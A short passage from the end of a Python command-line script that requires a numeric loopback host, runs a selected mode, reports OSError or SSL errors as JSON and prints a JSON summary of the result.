        ap.error("--host must be a numeric loopback address")
    try:
        out = MODES[args.mode](args)
    except (OSError, ssl.SSLError) as e:
        print(json.dumps({"mode": args.mode, "error": "%s: %s" % (type(e).__name__, e)}), flush=True)
        return 1
    print(json.dumps(summarize(out), sort_keys=True, separators=(",", ":")), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
